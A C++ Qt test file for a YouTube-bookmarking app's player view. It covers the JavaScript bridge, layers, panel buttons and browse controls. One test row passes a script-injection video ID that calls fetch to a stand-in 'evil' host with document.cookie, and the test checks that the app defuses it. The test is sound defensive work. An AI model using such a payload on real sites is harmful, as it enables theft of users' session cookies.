#include "PlayerView.h"
#include "../ui/WidgetTestMain.h"
#include "AppSignals.h"
#include "AppState.h"
#include "CircleButton.h"
#include "DetailInfoPanel.h"
#include "DetailView.h"
#include "FakeHttpServer.h"
#include "KeyRules.h"
#include "PagingWebView.h"
#include "PillButton.h"
#include "PlayerController.h"
#include "ServiceProcess.h"

#include <QApplication>
#include <QClipboard>
#include <QElapsedTimer>
#include <QEnterEvent>
#include <QGraphicsOpacityEffect>
#include <QLabel>
#include <QSettings>
#include <QSignalSpy>
#include <QTemporaryDir>
#include <QTest>
#include <QWebEnginePage>
#include <QWheelEvent>
#include <memory>

using namespace clipvane;
using clipvane::test::FakeHttpServer;
using clipvane::test::FakeReply;
using clipvane::test::ServiceProcess;

namespace {

// A player page keeping the contract (four functions, "ready", a state or error per call) that records calls.
constexpr char kFakePlayerPage[] = R"HTML(<!doctype html>
<html><head><meta charset="utf-8"><title>fake player</title></head><body><script>
window.calls = [];
function post(m) { window.webkit.messageHandlers.player.postMessage(m); }
window.loadVideo = function (id) { calls.push('load:' + id); post({ t: 'state', s: 1 }); };
window.cueVideo = function (id) {
  calls.push('cue:' + id);
  if (id === 'noEmbed0001') { post({ t: 'error', c: 150 }); } else { post({ t: 'state', s: 5 }); }
};
window.play = function () { calls.push('play'); post({ t: 'state', s: 1 }); };
window.pause = function () { calls.push('pause'); post({ t: 'state', s: 2 }); };
window.addEventListener('load', function () {
  post('ready');
  post({ t: 7 });
  post({ t: 'state', s: 'not a number' });
  post({ t: 'ready' });
});
</script></body></html>
)HTML";

QVariant evaluate(QWebEnginePage &page, const QString &script)
{
    QVariant result;
    bool done = false;
    page.runJavaScript(script, [&](const QVariant &value) {
        result = value;
        done = true;
    });
    if (!QTest::qWaitFor([&] { return done; }, 10000))
        qWarning("script did not answer: %s", qPrintable(script));
    return result;
}

QStringList calls(QWebEnginePage &page)
{
    return evaluate(page, u"window.calls.join('|')"_qs).toString().split(u'|', Qt::SkipEmptyParts);
}

class FakePage : public PlayerPage
{
public:
    void runScript(const QString &script) override { scripts << script; }
    QStringList scripts;
};

Video record(const QString &id, bool readOnly = false)
{
    Video video(id, u"Never Gonna Give You Up (Official Video) — remastered in 4K"_qs,
                u"https://www.youtube.com/watch?v="_qs + id, u"2009-10-25"_qs, u"3:33"_qs, false, u"web"_qs, 0, 0,
                u"synced"_qs);
    video.readOnly = readOnly;
    video.ownerEmail = readOnly ? u"mum@example.org"_qs : QString();
    return video;
}

// The window's state, kept in a folder of its own.
struct State
{
    QTemporaryDir dir;
    QSettings standard{dir.filePath(u"s.ini"_qs), QSettings::IniFormat};
    AppState state{standard};
};

// A pane whose controller talks to a fake page, so a test sets the player's state by hand.
struct Pane : State
{
    DetailView view{state, QUrl(u"about:blank"_qs)};
    FakePage page;

    Pane()
    {
        view.resize(900, 640);
        state.player().attach(&page);
        state.player().pageReady();
    }
    PlayerController &player() { return state.player(); }
};

const QString kYouTubeID = u"dQw4w9WgXcQ"_qs;

} // namespace

class PlayerViewTest : public QObject
{
    Q_OBJECT

    FakeHttpServer m_server;

private Q_SLOTS:
    void initTestCase()
    {
        FakeReply page;
        page.body = kFakePlayerPage;
        page.headers = {{"Content-Type", "text/html; charset=utf-8"}};
        m_server.setDefaultReply(page);
        QVERIFY(m_server.start());
    }

    void thePageAndTheControllerTalkThroughTheRealBridge()
    {
        PlayerController controller;
        const QString first = u"dQw4w9WgXcQ"_qs;
        controller.load(first, false); // waits: no page yet
        PlayerView player(controller, PlayerController::playerPageURL(m_server.url(u"/api"_qs)));
        player.resize(480, 270);
        player.show();
        QWebEnginePage &page = *player.webView().page();

        // The handshake sends the pending video, cued; the page answers "cued" (state 5).
        QTRY_VERIFY_WITH_TIMEOUT(controller.isReady(), 15000);
        QTRY_COMPARE_WITH_TIMEOUT(calls(page), QStringList{u"cue:"_qs + first}, 5000);
        QTRY_VERIFY(!controller.isLoading());
        QVERIFY(!controller.isPlaying());
        QCOMPARE(m_server.requests().at(0).path, QByteArray("/player.html"));

        // Load with autoplay: "loadVideo", and the page's state 1 arrives as playing.
        const QString second = u"9bZkp7q19f0"_qs;
        controller.load(second, true);
        QVERIFY(controller.isLoading());
        QTRY_VERIFY(!controller.isLoading());
        QVERIFY(controller.isPlaying());
        controller.pause();
        QTRY_COMPARE(calls(page).last(), u"pause"_qs);

        // An error message reaches the controller with its code.
        controller.load(u"noEmbed0001"_qs, false);
        QTRY_COMPARE(controller.embedError(), std::optional<int>(150));
        QVERIFY(!controller.isLoading());
    }

    // Paging takes wheel and keys only while on; Space in the player is the page's.
    void keysInThePlayerAndTheBridgesEnd()
    {
        State window;
        KeyRules filter(window.state);
        PlayerController &controller = window.state.player();
        auto player = std::make_unique<PlayerView>(controller, PlayerController::playerPageURL(m_server.url()));
        player->setWindowTitle(u"Clipvane"_qs);
        player->resize(480, 270);
        player->show();
        player->activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(player.get()));
        QTRY_VERIFY_WITH_TIMEOUT(controller.isReady(), 15000);
        QWidget *proxy = player->webView().focusProxy();
        QVERIFY(proxy);
        proxy->setFocus();
        QTRY_COMPARE(QApplication::focusWidget(), proxy);
        QTest::keyClick(proxy, Qt::Key_Space);
        QVERIFY(!controller.isPlaying());

        QList<int> pages;
        player->setOnPage([&pages](int direction) { pages << direction; });
        const auto wheel = [&](int angle) {
            QWheelEvent event(QPointF(10, 10), proxy->mapToGlobal(QPointF(10, 10)), QPoint(), QPoint(0, angle),
                              Qt::NoButton, Qt::NoModifier, Qt::NoScrollPhase, false);
            return QApplication::sendEvent(proxy, &event);
        };
        QVERIFY(wheel(-120));
        QTest::keyClick(proxy, Qt::Key_K);
        QCOMPARE(pages, (QList<int>{+1, -1}));

        player->setOnPage({});
        wheel(-120);
        QTest::keyClick(proxy, Qt::Key_J);
        QCOMPARE(pages.size(), 2);

        QVERIFY(controller.hasPage());
        player.reset();
        QVERIFY(!controller.hasPage());
        controller.load(u"dQw4w9WgXcQ"_qs, true);
        QCOMPARE(controller.pendingID(), std::optional<QString>(u"dQw4w9WgXcQ"_qs));
    }

    void theServicesOwnPageReachesTheBridge()
    {
        // The real page cannot reach YouTube here: what matters is that its policy lets the bridge work.
        ServiceProcess service(QStringLiteral(CLIPVANE_SERVICE_BINARY));
        QVERIFY2(service.start(), qPrintable(service.error()));
        PlayerController controller;
        controller.load(u"dQw4w9WgXcQ"_qs, false);
        PlayerView player(controller, PlayerController::playerPageURL(QUrl(service.apiBase())));
        QSignalSpy loaded(&player.webView(), &QWebEngineView::loadFinished);
        player.show();
        QVERIFY(loaded.wait(15000));
        QVERIFY(loaded.at(0).at(0).toBool());
        QWebEnginePage &page = *player.webView().page();
        QCOMPARE(evaluate(page, u"typeof window.cueVideo"_qs).toString(), u"function"_qs);
        evaluate(page, u"window.webkit.messageHandlers.player.postMessage({t: 'ready'}); 0"_qs);
        QTRY_VERIFY_WITH_TIMEOUT(controller.isReady(), 10000);
        QVERIFY(!controller.pendingID());
        QCOMPARE(controller.loadedID(), std::optional<QString>(u"dQw4w9WgXcQ"_qs));
    }

    // Set-up steps: "browse", "video ID", "load 0|1" (autoplay), "error CODE", "state STATE".
    void layers_data()
    {
        QTest::addColumn<QString>("setup");
        QTest::addColumn<DetailView::Layer>("layer");
        QTest::addColumn<bool>("playerShown");
        QTest::addColumn<bool>("panelShown");
        const auto row = [](const char *name, const char *setup, DetailView::Layer layer, bool player, bool panel) {
            QTest::newRow(name) << QString::fromUtf8(setup) << layer << player << panel;
        };
        using L = DetailView::Layer;
        row("no video", "", L::empty, false, false);
        row("x- record", "video x-1712345678", L::linkNotice, false, true);
        row("hostile ID is a link", "video a');fetch('//evil/'+document.cookie);('", L::linkNotice, false, true);
        row("embeddable, idle", "video dQw4w9WgXcQ", L::player, true, true);
        row("loading", "video dQw4w9WgXcQ, load 0", L::loading, true, true);
        row("cannot embed", "video dQw4w9WgXcQ, load 1, error 150", L::cannotEmbed, true, true);
        row("loaded", "video dQw4w9WgXcQ, load 1, state 1", L::player, true, true);
        row("error on an x- record shows the link notice", "error 150, video x-1712345678", L::linkNotice, false, true);
        row("browse mode, loading", "browse, video dQw4w9WgXcQ, load 1", L::loading, true, true);
    }

    void layers()
    {
        QFETCH(QString, setup);
        QFETCH(DetailView::Layer, layer);
        Pane pane;
        for (const QString &step : setup.split(u", "_qs, Qt::SkipEmptyParts)) {
            const QString verb = step.section(u' ', 0, 0);
            const QString value = step.section(u' ', 1);
            if (verb == u"browse")
                pane.state.setBrowsing(true);
            else if (verb == u"video")
                pane.view.setVideo(record(value));
            else if (verb == u"load")
                pane.player().load(kYouTubeID, value == u"1");
            else if (verb == u"error")
                pane.player().handleError(value.toInt());
            else
                pane.player().handleState(value.toInt());
        }
        pane.view.show();
        QCOMPARE(pane.view.layer(), layer);
        QTEST(pane.view.player().isVisible(), "playerShown");
        QTEST(pane.view.infoPanel().isVisible(), "panelShown");
        // Exactly one notice or covering layer (or none over a plain player) is on show.
        const auto labels = pane.view.findChildren<QLabel *>();
        const auto shown = [&labels](const QString &text) {
            return std::any_of(labels.begin(), labels.end(),
                               [&text](const QLabel *label) { return label->text() == text && label->isVisible(); });
        };
        QCOMPARE(shown(u"Pick a video from the list"_qs), layer == DetailView::Layer::empty);
        QCOMPARE(shown(u"This entry isn't a standard YouTube link."_qs), layer == DetailView::Layer::linkNotice);
        QCOMPARE(shown(u"This video can't be played inside the app."_qs), layer == DetailView::Layer::cannotEmbed);
    }

    void panel_data()
    {
        QTest::addColumn<Video>("video");
        QTest::addColumn<bool>("browsing");
        QTest::addColumn<QString>("facts"); // separated by " "
        QTest::addColumn<QString>("buttons");
        const QString all = u"Open in YouTube | Copy link | Share | Edit | Mark as Watched | Exclude | Delete"_qs;
        const QString browse = u"Open in YouTube | Copy link | Share"_qs;
        const QString facts = u"[globe] 2009-10-25 · 3:33"_qs;

        QTest::newRow("own record") << record(kYouTubeID) << false << facts << all;
        Video excluded = record(kYouTubeID);
        excluded.excluded = true;
        QTest::newRow("excluded") << excluded << false << facts << QString(all).replace(u"Exclude"_qs, u"Include"_qs);
        Video watched = record(kYouTubeID);
        watched.watched = true;
        QTest::newRow("watched") << watched << false << facts
                                 << QString(all).replace(u"Mark as Watched"_qs, u"Mark as Unwatched"_qs);
        QTest::newRow("shared record") << record(kYouTubeID, true) << false
                                       << facts + u" · [person.2.fill] Shared by mum@example.org"_qs << browse;
        QTest::newRow("browse mode") << record(kYouTubeID) << true << facts << browse;
        Video noLength = record(kYouTubeID);
        noLength.duration.clear();
        noLength.source = u"telegram"_qs;
        QTest::newRow("no length, from Telegram") << noLength << false << u"[paperplane.fill] 2009-10-25"_qs << all;
    }

    void panel()
    {
        QFETCH(Video, video);
        QFETCH(bool, browsing);
        Pane pane;
        pane.state.setBrowsing(browsing);
        pane.view.setVideo(video);
        QCOMPARE(pane.view.infoPanel().titleText(), video.title);
        QTEST(pane.view.infoPanel().factsTexts().join(u' '), "facts");
        QTEST(pane.view.infoPanel().visibleButtons().join(u" | "_qs), "buttons");
        QCOMPARE(pane.view.infoPanel().height(), browsing ? 92 : 112);
    }

    void browseControls_data()
    {
        QTest::addColumn<int>("index");
        QTest::addColumn<int>("total");
        QTest::addColumn<bool>("previous");
        QTest::addColumn<bool>("next");
        QTest::addColumn<QString>("counter");
        QTest::newRow("only video") << 0 << 1 << false << false << u"1 of 1"_qs;
        QTest::newRow("first of five") << 0 << 5 << false << true << u"1 of 5"_qs;
        QTest::newRow("third of twelve") << 2 << 12 << true << true << u"3 of 12"_qs;
        QTest::newRow("last of five") << 4 << 5 << true << false << u"5 of 5"_qs;
    }

    void browseControls()
    {
        QFETCH(int, index);
        QFETCH(int, total);
        QFETCH(bool, previous);
        QFETCH(bool, next);
        Pane pane;
        QList<int> pages;
        pane.view.setOnPage([&pages](int direction) { pages << direction; });
        pane.view.setVideo(record(kYouTubeID));
        pane.view.setPosition({index, total});
        // The wheel and the keys page over the player only in browse mode.
        QVERIFY(!pane.view.player().webView().isPaging());
        pane.state.setBrowsing(true);
        QVERIFY(pane.view.player().webView().isPaging());
        pane.view.show();
        QTEST(pane.view.positionText(), "counter");
        const auto buttons = pane.view.findChildren<CircleButton *>();
        QCOMPARE(buttons.size(), 3); // previous, next, close
        QCOMPARE(buttons.at(0)->isEnabled(), previous);
        QCOMPARE(buttons.at(1)->isEnabled(), next);
        buttons.at(0)->click();
        buttons.at(1)->click();
        QCOMPARE(pages, (QList<int>{-1, +1}.mid(previous ? 0 : 1, int(previous) + int(next))));
        pane.view.setOnPage({});
        QVERIFY(!pane.view.player().webView().isPaging());
    }

    // The controls show while the pointer is over the pane; Escape and the close button leave.
    void browseModeControlsAndLeaving()
    {
        Pane pane;
        pane.view.setVideo(record(kYouTubeID));
        pane.state.setBrowsing(true);
        pane.view.show();
        pane.view.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&pane.view));
        const auto effects = pane.view.findChildren<QGraphicsOpacityEffect *>();
        QCOMPARE(effects.size(), 3);
        QCOMPARE(effects.at(0)->opacity(), 0.0);
        QEnterEvent enter(QPointF(10, 10), QPointF(10, 10), QPointF(10, 10));
        QApplication::sendEvent(&pane.view, &enter);
        QTRY_COMPARE(effects.at(2)->opacity(), 1.0);
        QEvent leave(QEvent::Leave);
        QApplication::sendEvent(&pane.view, &leave);
        QTRY_COMPARE(effects.at(0)->opacity(), 0.0);

        CircleButton *close = pane.view.findChildren<CircleButton *>().at(2);
        QVERIFY(close->isVisible());
        QTest::keyClick(&pane.view, Qt::Key_Escape);
        QVERIFY(!pane.state.browsing());
        QVERIFY(!close->isVisible());
        pane.state.setBrowsing(true);
        close->click();
        QVERIFY(!pane.state.browsing());
    }

    // Copy link reads "Copied" for one and a half seconds from the first press.
    void panelButtons()
    {
        Pane pane;
        Video video = record(kYouTubeID);
        video.url = u"https://youtu.be/dQw4w9WgXcQ?t=42"_qs;
        pane.view.setVideo(video);
        QHash<QString, PillButton *> pills;
        for (PillButton *button : pane.view.findChildren<PillButton *>())
            pills.insert(button->text(), button);
        PillButton *copy = pills.value(u"Copy link"_qs);
        copy->click();
        QCOMPARE(QApplication::clipboard()->text(), video.url);
        QCOMPARE(copy->text(), u"Copied"_qs);
        QCOMPARE(copy->symbol(), u"checkmark"_qs);
        QTest::qWait(700);
        copy->click();
        QElapsedTimer sinceSecond;
        sinceSecond.start();
        QTRY_COMPARE_WITH_TIMEOUT(copy->text(), u"Copy link"_qs, 3000);
        // The first press's reset ended it, not the second's.
        QVERIFY2(sinceSecond.elapsed() < 1400, qPrintable(QString::number(sinceSecond.elapsed())));
        QCOMPARE(copy->symbol(), u"doc.on.doc"_qs);
    }

    // Changing or clearing the selection never pauses.
    void playbackFollowsOnlyTheCommand()
    {
        Pane pane;
        Q_EMIT AppSignals::instance().macTogglePlayback();
        QVERIFY(pane.player().isPlaying());
        Q_EMIT AppSignals::instance().macTogglePlayback();
        QVERIFY(!pane.player().isPlaying());
        pane.view.setVideo(record(kYouTubeID));
        pane.player().load(kYouTubeID, true);
        pane.view.setVideo(std::nullopt);
        pane.view.setVideo(record(u"x-1712345678"_qs));
        QVERIFY(pane.player().isPlaying());
        QCOMPARE(pane.page.scripts, (QStringList{u"play()"_qs, u"pause()"_qs, u"loadVideo(\"dQw4w9WgXcQ\", 0)"_qs}));
    }

    // A link that is no web address is shared as the short link; the mail's subject is encoded.
    void shareByMail()
    {
        Video video = record(kYouTubeID);
        video.url = u"::"_qs;
        QCOMPARE(DetailView::mailAddress(u"A & B?"_qs, DetailView::shareAddress(video)).toString(QUrl::FullyEncoded),
                 u"mailto:?subject=A%20%26%20B%3F&body=https%3A%2F%2Fyoutu.be%2FdQw4w9WgXcQ"_qs);
    }
};

CLIPVANE_WIDGET_TEST_MAIN(PlayerViewTest)

#include "PlayerViewTest.moc"
